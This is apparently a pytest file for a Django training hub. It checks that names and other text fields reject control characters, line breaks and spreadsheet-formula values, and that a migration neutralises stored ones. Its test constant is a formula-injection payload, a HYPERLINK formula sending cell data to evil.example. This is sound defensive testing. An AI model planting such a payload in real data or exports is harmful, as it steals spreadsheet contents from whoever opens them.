"""What text the hub accepts, decided once in lms.validators and applied to every text field:
no control characters anywhere, no tabs or line breaks on one line, and names and other
person-entered fields that never start like a spreadsheet formula. The first two tests make
the rules impossible to forget: a new text field without them fails here."""

import importlib

import pytest
from django import forms
from django.apps import apps
from django.db import models
from django.urls import reverse

from lms import validators
from lms.models import AgencyType, LocalAuthority, Organisation, Role, User
from tests.factories import OrganisationFactory, UserFactory, with_role

OUR_APPS = ("lms", "courses", "bookings", "workshops", "certificates")
FORM_MODULES = [
    "lms.forms",
    "lms.privacy.forms",
    "bookings.forms",
    "courses.forms",
    "workshops.forms",
    "workshops.admin_forms",
    "certificates.forms",
]
# Written by the code, never typed by a person (audit trails, tokens, copies of content).
SYSTEM_WRITTEN = {
    ("lms", "user", "password"),  # a hash
    ("lms", "importpreview", "token"),  # made by the server
    ("lms", "importpreview", "kind"),
    ("lms", "export", "kind"),  # stored exports (lms.exports): named by the code
    ("lms", "export", "filename"),
    ("lms", "export", "error"),  # the worker's failure, as it recorded it
    ("bookings", "booking", "approval_nonce"),
    ("certificates", "certificate", "code"),
    ("certificates", "certificate", "source_type"),
    ("certificates", "accreditation", "source_type"),
    ("courses", "enrolment", "anonymous_key"),
    ("courses", "attempt", "fingerprint"),
    ("courses", "answer", "question_id"),
    ("courses", "answer", "kind"),
    ("courses", "answer", "prompt"),
    ("courses", "answer", "vignette_title"),
}
# The spam trap on the workshop request form: a person never fills it, and the view, not the
# form, decides what to do with whatever a bot puts there.
HONEYPOTS = {("workshops.forms", "WorkshopRequestForm", "website")}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?stolen="&A3&B3,"Open details")'


def text_fields():
    for model in apps.get_models():
        if model._meta.app_label not in OUR_APPS:
            continue
        for field in model._meta.local_fields:
            if not isinstance(field, models.CharField | models.TextField):
                continue
            if isinstance(field, models.EmailField | models.SlugField | models.URLField):
                continue  # their own validators refuse control characters
            if field.choices or not field.editable:
                continue
            key = (model._meta.app_label, model._meta.model_name, field.name)
            if key in SYSTEM_WRITTEN or issubclass(model, _audit_event()):
                continue
            yield key, field


def _audit_event():
    from lms.models import AuditEvent

    return AuditEvent


def _library_bases(form_class):
    return [base for base in form_class.__mro__[1:] if not base.__module__.startswith(OUR_APPS)]


def checks_text(field) -> bool:
    return any(validator in validators.TEXT_VALIDATORS for validator in field.validators)


def test_every_text_field_a_person_fills_in_refuses_control_characters():
    missing = [key for key, field in text_fields() if not checks_text(field)]
    assert missing == []


def test_every_form_text_field_refuses_control_characters():
    missing = []
    for module_name in FORM_MODULES:
        module = importlib.import_module(module_name)
        for form_name, form_class in vars(module).items():
            if not (isinstance(form_class, type) and issubclass(form_class, forms.BaseForm)):
                continue
            if form_class.__module__ != module_name:
                continue
            declared = getattr(form_class, "declared_fields", {})
            for name, field in declared.items():
                if type(field) is not forms.CharField or (module_name, form_name, name) in HONEYPOTS:
                    continue
                if isinstance(field.widget, forms.PasswordInput):
                    continue  # hashed, never shown or exported; the middleware refuses NUL
                if any(name in vars(base).get("declared_fields", {}) for base in _library_bases(form_class)):
                    continue  # allauth's own fields (username, password): see lms.middleware
                if not checks_text(field):
                    missing.append((module_name, form_name, name))
    assert missing == []


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("Sam\x0bTaylor", "control_characters"),
        ("Sam\x00Taylor", "control_characters"),
        ("Sam\tTaylor", "line_breaks"),
        ("Sam\nTaylor", "line_breaks"),
        ("=1+1", "formula"),
        ("+44 evil", "formula"),
        ("-2+3", "formula"),
        ("@SUM(A1)", "formula"),
        ("\tTab", "line_breaks"),
        ("\rReturn", "line_breaks"),
        ("Sam Taylor-Jones", None),
        ("Siân O'Brien", None),
        ("'=already escaped", None),
    ],
)
def test_a_person_field_refuses_control_characters_line_breaks_and_formulas(value, problem):
    codes = []
    for validate in validators.PERSON_TEXT:
        try:
            validate(value)
        except Exception as error:
            codes.append(error.code)
    assert codes[:1] == ([problem] if problem else [])


def test_multi_line_text_keeps_tabs_and_line_breaks():
    validators.validate_text("First line\r\nSecond\tline")


@pytest.mark.django_db
@pytest.mark.parametrize("name", [HOSTILE_NAME, "+Sam", "@Sam", "-Sam", "Sam\tTaylor"])
def test_sign_up_refuses_a_name_a_spreadsheet_would_run(client, name):
    response = client.post(
        reverse("account_signup"),
        {
            "full_name": name,
            "email": "sam@example.org",
            "password1": "a-long-unusual-passphrase",
            "password2": "a-long-unusual-passphrase",
        },
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "govuk-error-summary" in html
    assert (validators.FORMULA_MESSAGE if name[0] != "S" else validators.LINE_BREAK_MESSAGE) in html
    assert not User.objects.filter(email="sam@example.org").exists()


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["job_role", "manager_name", "new_organisation_name"])
def test_the_profile_refuses_formulas_and_keeps_what_was_typed(client, field):
    OrganisationFactory(name="Harbour Primary School", agency_type=AgencyType.EDUCATION)
    user = UserFactory()
    client.force_login(user)
    data = {
        "organisation": Organisation.objects.get(name="Harbour Primary School").pk,
        "new_organisation_name": "",
        "new_organisation_type": "",
        "job_role": "Teacher",
        "local_authority": LocalAuthority.objects.get(slug="luton").pk,
        "manager_name": "Jo Head",
        "manager_email": "jo.head@example.org",
        "phone": "",
    }
    if field == "new_organisation_name":
        data.update(organisation="", new_organisation_type=AgencyType.EDUCATION)
    data[field] = HOSTILE_NAME
    response = client.post(reverse("profile"), data)
    html = response.content.decode()
    assert response.status_code == 200
    assert validators.FORMULA_MESSAGE in html and "govuk-error-summary" in html
    assert "HYPERLINK" in html  # what was typed is shown back, not lost
    assert not hasattr(User.objects.get(pk=user.pk), "profile")


@pytest.mark.django_db
def test_the_admin_refuses_an_organisation_named_like_a_formula(client):
    client.force_login(with_role(Role.ADMINISTRATOR))
    response = client.post(
        "/admin/organisations/new/",
        {
            "name": HOSTILE_NAME,
            "agency_type": AgencyType.HEALTH,
            "local_authority": LocalAuthority.objects.get(slug="luton").pk,
        },
    )
    assert response.status_code == 200
    assert validators.FORMULA_MESSAGE in response.content.decode()
    assert not Organisation.objects.filter(name=HOSTILE_NAME).exists()


@pytest.mark.django_db
def test_names_stored_before_the_rules_are_neutralised_by_the_data_migration():
    from django.apps import apps as registry

    migration = importlib.import_module("lms.migrations.0009_neutralise_stored_person_text")
    formula, spaced, broken = UserFactory(), UserFactory(), UserFactory()
    plain = UserFactory(full_name="Sam Taylor")
    User.objects.filter(pk=formula.pk).update(full_name=HOSTILE_NAME)
    User.objects.filter(pk=spaced.pk).update(full_name="\tSam\x0bLee\r\n")
    User.objects.filter(pk=broken.pk).update(full_name="Ann\r\nLee")
    migration.neutralise(registry, None)
    names = dict(User.objects.values_list("pk", "full_name"))
    assert names[formula.pk] == "'" + HOSTILE_NAME
    assert names[spaced.pk] == "Sam Lee"
    assert names[broken.pk] == "Ann Lee"
    assert names[plain.pk] == "Sam Taylor"
    for name in names.values():
        for validate in validators.PERSON_TEXT:
            validate(name)
